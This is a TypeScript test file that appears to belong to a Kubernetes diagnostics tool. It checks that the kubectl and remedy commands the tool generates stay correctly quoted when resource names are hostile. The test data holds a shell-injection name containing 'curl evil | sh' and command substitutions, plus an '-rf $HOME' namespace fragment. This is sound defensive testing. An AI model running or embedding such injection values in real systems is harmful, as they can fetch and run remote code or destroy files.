import { RESOURCE_NAMES } from '@slicescope/model'
import { expect, test } from 'vitest'
import { checklist } from '../checklist.ts'
import { diagnose } from '../diagnose.ts'
import { diagnoseWeb, evidenceOf, NOW, TestCluster } from '../testing/web-service.ts'
import { visible } from '../words/visible.ts'
import { FIXTURES } from './fixtures.ts'

/** Whatever a shell, a terminal or a sentence could take for more than a name. */
const NAME = 'w\'b"; curl evil | sh #$(id)`id`&*\n\u202E\\'
const NAMESPACE = "-rf '\u0007$HOME"

/** Objects of the API are plain data: every string of them has the hostile names in place of the good ones. */
function hostile(value: unknown): unknown {
  if (typeof value === 'string')
    return value.replaceAll(/\bweb\b/g, () => NAME).replaceAll(/\bshop\b/g, () => NAMESPACE)
  if (Array.isArray(value)) return value.map(hostile)
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(Object.entries(value).map(([key, own]) => [key, hostile(own)]))
}

function renamed(made: TestCluster): TestCluster {
  const other = new TestCluster()
  for (const resource of RESOURCE_NAMES)
    for (const object of made.store.listers[resource].list()) other.set(resource, Object(hostile(object)))
  return other
}

/** What a POSIX shell makes of a line: words, and `;` between commands. Whatever else it would do is an error. */
function shellWords(line: string): readonly string[] {
  const words: string[] = []
  let word: string | null = null
  const end = () => {
    if (word !== null) words.push(word)
    word = null
  }
  for (let at = 0; at < line.length; at++) {
    const character = line.charAt(at)
    if (character === "'") {
      const close = line.indexOf("'", at + 1)
      if (close < 0) throw new Error(`a quote is left open: ${line}`)
      word = (word ?? '') + line.slice(at + 1, close)
      at = close
    } else if (character === '\\') word = (word ?? '') + line.charAt(++at)
    else if (character === ' ') end()
    else if (character === ';') {
      end()
      words.push(';')
    } else if (/[\w@%+=:,./-]/.test(character)) word = (word ?? '') + character
    else throw new Error(`a shell takes ${character} for more than itself: ${line}`)
  }
  end()
  return words
}

const EXPECTED = (word: string) =>
  visible(word.replaceAll(/\bweb\b/g, () => NAME).replaceAll(/\bshop\b/g, () => NAMESPACE))

test('the shell of this test knows quotes, and refuses what would run', () => {
  expect(shellWords(String.raw`kubectl get pod/'a'\''b; c' -o yaml; ls`)).toEqual([
    'kubectl',
    'get',
    "pod/a'b; c",
    '-o',
    'yaml',
    ';',
    'ls',
  ])
  expect(() => shellWords('kubectl get $(id)')).toThrow('more than itself')
})

test.each(FIXTURES)('[$code] with hostile names each command has the words that it has with good ones', ({ make }) => {
  const made = make()
  const evil = renamed(made)
  const graph = evil.graph(`${NAMESPACE}/${NAME}`)
  const good = new Map(diagnoseWeb(made).findings.map(finding => [finding.code, finding]))
  const { findings } = diagnose(graph, evidenceOf(evil), NOW)
  for (const { code, kubectl, remedyCommand, sentence, title, remedy, evidence } of findings) {
    expect(shellWords(kubectl)).toEqual(shellWords(good.get(code)?.kubectl ?? kubectl).map(EXPECTED))
    shellWords(remedyCommand)
    const texts = [
      kubectl,
      remedyCommand,
      sentence,
      title,
      remedy,
      ...evidence.flatMap(each => [each.field, each.found]),
    ]
    expect(texts.filter(text => text !== visible(text))).toEqual([])
  }
  for (const { kubectl, sentence } of checklist(graph, evidenceOf(evil))) {
    shellWords(kubectl ?? '')
    expect(sentence).toBe(visible(sentence))
  }
})

test('most rules hold with hostile names as with good ones', () => {
  const missed = FIXTURES.filter(({ code, make }) => {
    const evil = renamed(make())
    const { findings } = diagnose(evil.graph(`${NAMESPACE}/${NAME}`), evidenceOf(evil), NOW)
    return !findings.some(finding => finding.code === code)
  })
  // The name of a StatefulSet's pod, what was watched, and Leases are not renamed.
  expect(missed.map(({ code }) => code)).toEqual(['SC-G32', 'SC-B9', 'SC-D10', 'SC-G6'])
})
